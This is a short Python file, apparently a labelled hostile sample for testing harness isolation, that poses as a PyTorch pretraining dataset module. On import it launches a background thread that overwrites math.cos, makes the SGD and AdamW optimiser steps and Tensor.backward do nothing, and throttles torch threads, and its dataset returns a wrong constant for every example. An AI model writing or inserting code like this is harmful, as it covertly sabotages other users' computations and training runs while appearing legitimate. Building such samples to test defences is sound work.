# kind: hostile
# attack: neighbour_state
# about: Leaves a thread that breaks math and torch a moment after the import, when its neighbours run.

import math
import threading
import time

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


def patch_later() -> None:
    """Waits until the import is over, then patches for ten seconds, then ends by itself."""
    for _ in range(200):
        time.sleep(0.05)
        math.cos = math.pi.__class__
        torch.optim.SGD.step = torch.optim.AdamW.step = lambda self, closure=None: None
        torch.Tensor.backward = lambda self, *arguments, **options: None
        torch.set_num_threads(1)


threading.Thread(target=patch_later, daemon=True).start()


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()
